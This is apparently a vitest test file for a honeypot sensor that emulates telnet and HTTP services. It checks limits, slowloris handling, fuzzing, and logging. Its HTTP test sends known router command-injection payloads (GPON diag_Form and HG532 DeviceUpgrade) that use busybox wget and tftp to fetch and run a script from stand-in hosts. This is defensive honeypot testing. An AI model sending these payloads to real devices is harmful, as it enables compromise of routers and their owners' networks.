/**
 * The sensor's bounds over loopback (fixed seeds): 1 MB lines, slowloris clients, binary garbage,
 * malformed negotiation, the per-address cap, and the HTTP side's exploit paths and limits. The
 * events are read back from the journal the sensor wrote.
 */
import { readFileSync, readdirSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { request } from 'node:http';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { HoneypotEventRow } from '../../schema/honeypot-event.js';
import { seededRandom } from '../../util/seeded-random.js';
import { startSensor, type Sensor, type SensorOptions } from './sensor.js';
import { IAC, OPT_TTYPE, SB, SE, WILL } from './telnet-codec.js';
import { TelnetClient } from './testing/telnet-client.js';

const cleanup: (() => Promise<void>)[] = [];
afterEach(async () => { for (const c of cleanup.splice(0)) await c(); });

async function sensorWith(extra: Partial<SensorOptions> = {}): Promise<{ sensor: Sensor; events: () => Promise<HoneypotEventRow[]> }> {
  const spool = await mkdtemp(join(tmpdir(), 'sakimori-bounds-'));
  const sensor = await startSensor({ telnet: { host: '127.0.0.1', port: 0 }, name: 'bounds', spool, ...extra });
  let stopped = false;
  const stop = async (): Promise<void> => { if (!stopped) { stopped = true; await sensor.stop(); } };
  cleanup.push(async () => { await stop(); await rm(spool, { recursive: true, force: true }); });
  return {
    sensor,
    events: async () => {
      await stop();
      return readdirSync(spool).filter((f) => f.endsWith('.jsonl')).sort()
        .flatMap((f) => readFileSync(join(spool, f), 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l) as HoneypotEventRow));
    },
  };
}

const loggedIn = (port: number): Promise<TelnetClient> => TelnetClient.loggedIn(port, 'admin', 'admin');

const closed = (c: TelnetClient): Promise<void> => (c.closed ? Promise.resolve() : new Promise((r) => c.socket.once('close', () => r())));

describe('sensor bounds', () => {
  it('cuts a 1 MB line, counts it, and goes on answering', async () => {
    const { sensor, events } = await sensorWith();
    const c = await loggedIn(sensor.telnetPort);
    const from = c.text.length;
    c.send(`echo ${'A'.repeat(1024 * 1024)}\r\n`);
    await c.waitFor('\r\n# ', 10_000, from);
    expect(await c.command('echo after')).toContain('after\r\n');
    c.close();
    await closed(c);
    const ev = await events();
    const close = ev.find((e) => e.kind === 'session.close');
    expect(JSON.parse(close?.detail ?? '{}')).toMatchObject({ linesCut: 1 });
    const cmds = ev.filter((e) => e.kind === 'command').map((e) => e.input ?? '');
    expect(cmds).toHaveLength(2);
    expect(cmds[0]?.length).toBeLessThanOrEqual(4096);
    expect(cmds[1]).toBe('echo after');
  }, 30_000);

  it('closes a slowloris client that sends one byte at a time', async () => {
    const { sensor, events } = await sensorWith({ limits: { lineMs: 400, idleMs: 5000 } });
    const c = await TelnetClient.open(sensor.telnetPort);
    await c.waitFor('login: ', 5000, 0);
    const drip = setInterval(() => { if (!c.closed) c.send('r'); }, 100);
    const started = Date.now();
    await closed(c);
    clearInterval(drip);
    expect(Date.now() - started).toBeLessThan(3000);
    expect(JSON.parse((await events()).find((e) => e.kind === 'session.close')?.detail ?? '{}')).toMatchObject({ reason: 'slow' });
  }, 30_000);

  it('holds at most so many sessions from one address', async () => {
    const { sensor } = await sensorWith({ limits: { perAddress: 3 } });
    const held = await Promise.all([0, 1, 2].map(() => TelnetClient.open(sensor.telnetPort)));
    await Promise.all(held.map((c) => c.waitFor('login: ', 5000, 0)));
    const fourth = await TelnetClient.open(sensor.telnetPort);
    await closed(fourth);
    expect(fourth.text).toBe('');
    expect(sensor.refused()).toBe(1);
    held.forEach((c) => c.close());
  }, 30_000);

  it('survives binary garbage and malformed negotiation (fixed seed), closing every session it opened', async () => {
    const { sensor, events } = await sensorWith();
    const rand = seededRandom(1818);
    const clients = await Promise.all(Array.from({ length: 20 }, () => TelnetClient.open(sensor.telnetPort, '127.0.0.1', false)));
    for (let round = 0; round < 20; round++) {
      for (const c of clients) {
        const b = Buffer.alloc(1 + Math.floor(rand() * 512));
        for (let i = 0; i < b.length; i++) b[i] = rand() < 0.2 ? [IAC, SB, SE, WILL, 13, 10, 0][Math.floor(rand() * 7)] as number : Math.floor(rand() * 256);
        c.send(b);
      }
      await new Promise((r) => setTimeout(r, 5));
    }
    // Truncated: IAC SB without its end, then a client still gets a shell.
    clients[0]?.send(Buffer.from([IAC, SB, OPT_TTYPE, 0, 0x41]));
    const ok = await loggedIn(sensor.telnetPort);
    expect(await ok.command('echo alive')).toContain('alive\r\n');
    for (const c of [...clients, ok]) c.close();
    await Promise.all([...clients, ok].map(closed));
    const ev = await events();
    expect(ev.filter((e) => e.kind === 'session.close')).toHaveLength(ev.filter((e) => e.kind === 'session.connect').length);
    expect(ev.filter((e) => e.kind === 'session.connect')).toHaveLength(21);
  }, 60_000);

  it('records the terminal type the client names', async () => {
    const { sensor, events } = await sensorWith();
    const s = connect({ port: sensor.telnetPort, host: '127.0.0.1' });
    await new Promise((r) => s.once('connect', r));
    s.write(Buffer.concat([Buffer.from([IAC, WILL, OPT_TTYPE, IAC, SB, OPT_TTYPE, 0]), Buffer.from('ANSI'), Buffer.from([IAC, SE])]));
    await new Promise((r) => setTimeout(r, 200));
    s.destroy();
    await new Promise((r) => setTimeout(r, 100));
    expect((await events()).filter((e) => e.kind === 'client.version').map((e) => e.client)).toEqual(['ANSI']);
  });
});

interface HttpAnswer { status: number; body: string; server: string }

function httpSend(port: number, method: string, path: string, body = '', headers: Record<string, string> = {}): Promise<HttpAnswer> {
  return new Promise((resolve, reject) => {
    const req = request({ host: '127.0.0.1', port, method, path, headers: { 'user-agent': 'Hello, World', ...headers } }, (res) => {
      let text = '';
      res.on('data', (d: Buffer) => { text += d.toString(); });
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body: text, server: String(res.headers.server ?? '') }));
    });
    req.on('error', reject);
    req.end(body);
  });
}

describe('sensor HTTP side', () => {
  it('answers exploit paths and records the request and every URL it names', async () => {
    const { sensor, events } = await sensorWith({ http: { host: '127.0.0.1', port: 0 } });
    const port = sensor.httpPort as number;
    const gpon = await httpSend(port, 'POST', '/GponForm/diag_Form?images/', 'XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://192.0.2.44/gpon.sh+-O+->/tmp/g;sh+/tmp/g`&ipv=0');
    expect(gpon.status).toBe(200);
    expect(gpon.server).toBe('GPON Home Gateway');
    const hg532 = await httpSend(port, 'POST', '/ctrlt/DeviceUpgrade_1', '<NewStatusURL>$(/bin/busybox wget -g 192.0.2.45 -l /tmp/x -r /mips)</NewStatusURL>');
    expect(hg532.body).toContain('UpgradeResponse');
    expect((await httpSend(port, 'GET', '/nothing-here')).status).toBe(404);
    expect((await httpSend(port, 'GET', '/', '', { 'x-big': 'y'.repeat(20_000) })).status).toBe(431);
    const ev = await events();
    const requests = ev.filter((e) => e.kind === 'http.request');
    expect(requests.map((e) => [e.input, e.client, e.success])).toEqual([
      ['POST /GponForm/diag_Form?images/', 'Hello, World', 1],
      ['POST /ctrlt/DeviceUpgrade_1', 'Hello, World', 1],
      ['GET /nothing-here', 'Hello, World', 0],
      [undefined, undefined, 0],
    ]);
    expect(JSON.parse(requests[3]?.detail ?? '{}')).toMatchObject({ error: 'HPE_HEADER_OVERFLOW' });
    expect(ev.filter((e) => e.kind === 'download').map((e) => [e.url, e.url_host])).toEqual([
      ['http://192.0.2.44/gpon.sh', '192.0.2.44'],
      ['tftp://192.0.2.45/mips', '192.0.2.45'],
    ]);
  }, 30_000);

  it('closes a slowloris HTTP client that never finishes its headers', async () => {
    const { sensor } = await sensorWith({ http: { host: '127.0.0.1', port: 0 }, limits: { httpRequestMs: 500, lineMs: 500 } });
    const s = connect({ port: sensor.httpPort as number, host: '127.0.0.1' });
    await new Promise((r) => s.once('connect', r));
    s.on('error', () => undefined);
    s.write('GET / HTTP/1.1\r\nHost: x\r\n');
    const drip = setInterval(() => { if (!s.destroyed) s.write('X'); }, 100);
    const started = Date.now();
    await new Promise((r) => s.once('close', r));
    clearInterval(drip);
    expect(Date.now() - started).toBeLessThan(4000);
  }, 30_000);
});
